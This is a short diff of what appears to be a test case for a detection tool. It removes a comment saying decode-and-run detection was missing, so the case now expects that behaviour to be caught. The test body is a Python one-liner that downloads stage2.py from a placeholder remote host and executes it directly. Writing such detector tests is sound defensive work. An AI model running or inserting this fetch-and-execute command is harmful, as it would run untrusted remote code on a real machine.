@@ -5,6 +5,5 @@
 # as: user
 # needs: remote
 # expect: decode_and_run
-# known-miss: no decode_and_run detection yet; only new_destination (+20, low)
 set -u
 python3 -c "import urllib.request as u; exec(u.urlopen('http://$SNTL_REMOTE:8080/stage2.py', timeout=5).read())"
